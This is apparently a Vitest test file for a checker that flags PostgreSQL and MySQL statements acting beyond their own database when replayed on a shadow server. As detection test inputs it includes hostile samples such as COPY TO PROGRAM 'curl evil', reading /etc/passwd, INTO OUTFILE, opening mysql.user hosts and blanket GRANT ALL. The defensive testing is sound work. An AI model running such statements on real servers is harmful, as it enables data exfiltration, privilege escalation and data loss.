import { describe, expect, it } from 'vitest';
import { mysqlServerWideStatement, serverWideStatement } from '../../lib/check/sql/server-wide-statements.js';

describe('serverWideStatement: what a committed statement in a shadow on the live server must not do', () => {
  it.each([
    ['CREATE ROLE reporting', 'CREATE ROLE'],
    ["ALTER ROLE app PASSWORD 'x'", 'ALTER ROLE'],
    ['ALTER ROLE app SET work_mem = 1', 'ALTER ROLE … SET'],
    ['GRANT reporting TO app', 'GRANT / REVOKE of a role'],
    ['CREATE DATABASE other', 'CREATE DATABASE'],
    ['ALTER DATABASE live SET search_path = app', 'ALTER DATABASE … SET'],
    ['ALTER SYSTEM SET work_mem = 1', 'ALTER SYSTEM'],
    ["CREATE TABLESPACE fast LOCATION '/ssd'", 'CREATE TABLESPACE'],
    ["COMMENT ON DATABASE live IS 'x'", 'COMMENT on a database'],
    ['GRANT CONNECT ON DATABASE live TO app', 'GRANT / REVOKE on a database'],
    ['ALTER DATABASE live OWNER TO app', 'ALTER … OWNER on a database'],
    ['ALTER ROLE a RENAME TO b', 'RENAME on a role'],
    ['GRANT SET ON PARAMETER work_mem TO app', 'GRANT / REVOKE on a server parameter'],
    ['CREATE INDEX i ON t (c); DROP ROLE old', 'DROP ROLE'],
    ['DO $$ BEGIN EXECUTE $q$CREATE ROLE x$q$; END $$', 'a DO block, whose statements cannot be read before they run'],
    ['CREATE INDEX CONCURRENTLY i ON', expect.stringMatching(/parser cannot read/)],
    ["COPY users TO PROGRAM 'curl evil'", "COPY to or from a file or program on the server's machine"],
    ["COPY users FROM '/etc/passwd'", "COPY to or from a file or program on the server's machine"],
    ["SELECT dblink_exec('dbname=live', 'DROP TABLE users')", 'a call of dblink_exec()'],
    ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'a call of pg_terminate_backend()'],
    ["INSERT INTO t SELECT * FROM public.dblink('dbname=live', 'SELECT 1') AS x(a int)", 'a call of dblink()'],
    ["CREATE SERVER live FOREIGN DATA WRAPPER postgres_fdw OPTIONS (dbname 'live')", 'CREATE SERVER'],
  ])('%s: %s', async (sql, expected) => {
    expect(await serverWideStatement(sql)).toEqual(expected);
  });

  it.each([
    'CREATE INDEX CONCURRENTLY i ON t (c)',
    'VACUUM t',
    'ALTER TABLE t ADD COLUMN c int',
    "COMMENT ON TABLE t IS 'x'",
    'GRANT SELECT ON t TO app',
    'ALTER TABLE t RENAME TO u',
    "ALTER TYPE mood ADD VALUE 'meh'",
    'REINDEX INDEX CONCURRENTLY i',
    'COPY users TO STDOUT',
    "SELECT set_config('search_path', 'app', false)",
  ])('%s stays inside its database', async (sql) => {
    expect(await serverWideStatement(sql)).toBeUndefined();
  });
});

describe('MySQL/MariaDB statements that act outside their database (replay on a shadow)', () => {
  const others = new Set(['live_app', 'mysql', '9live']);

  it.each([
    ["CREATE USER 'probe'@'localhost'", 'CREATE USER'],
    ["  grant select on *.* to 'probe'@'%'", 'GRANT'],
    ['DROP DATABASE live_app', 'DROP DATABASE'],
    ['SET GLOBAL max_connections = 10', 'SET GLOBAL'],
    ['SET @@GLOBAL.sql_mode = ""', 'SET @@GLOBAL'],
    ['FLUSH PRIVILEGES', 'FLUSH'],
    ["SELECT * FROM t INTO OUTFILE '/tmp/x'", 'INTO OUTFILE'],
    ["INSERT INTO live_app.users (name) VALUES ('x')", 'a name in database "live_app"'],
    ['UPDATE `live_app`.`users` SET name = 1', 'a name in database "live_app"'],
    ["UPDATE mysql.user SET Host = '%'", 'a name in database "mysql"'],
    ['USE live_app', 'USE'],
    ['PREPARE s FROM @sql', 'PREPARE'],
    ['CREATE OR REPLACE DATABASE live_app', 'CREATE OR REPLACE'],
    ["-- a note\nCREATE USER 'probe'", 'CREATE USER'],
    ["/* why */ GRANT ALL ON *.* TO 'x'", 'GRANT'],
    ['/*!50000 CREATE USER probe */', 'CREATE USER'],
    ['CREATE TABLE t (id INT); DROP DATABASE live_app', 'DROP DATABASE'],
    ['SET @a = 1, GLOBAL max_connections = 10', expect.stringMatching(/^SET/)],
    ['ALTER INSTANCE ROTATE INNODB MASTER KEY', 'ALTER INSTANCE'],
    ['INSERT INTO `9live`.t VALUES (1)', 'a name in database "9live"'],
  ])('%s: %s', (sql, expected) => {
    expect(mysqlServerWideStatement(sql, others)).toEqual(expected);
  });

  it.each([
    'CREATE TABLE users (id INT PRIMARY KEY)',
    'ALTER TABLE users ADD COLUMN note TEXT, ALGORITHM=INSTANT',
    'SELECT users.id FROM users JOIN posts ON posts.user_id = users.id',
    "SELECT COLUMN_NAME FROM information_schema.COLUMNS WHERE TABLE_NAME = 'users'",
    'SET FOREIGN_KEY_CHECKS = 0',
    'CREATE INDEX users_name ON users (name)',
    "INSERT INTO notes (body) VALUES ('see live_app.users; DROP DATABASE live_app')",
    'CREATE TRIGGER t BEFORE UPDATE ON users FOR EACH ROW BEGIN SET NEW.name = OLD.name; END',
  ])('%s stays inside its database', (sql) => {
    expect(mysqlServerWideStatement(sql, others)).toBeUndefined();
  });
});
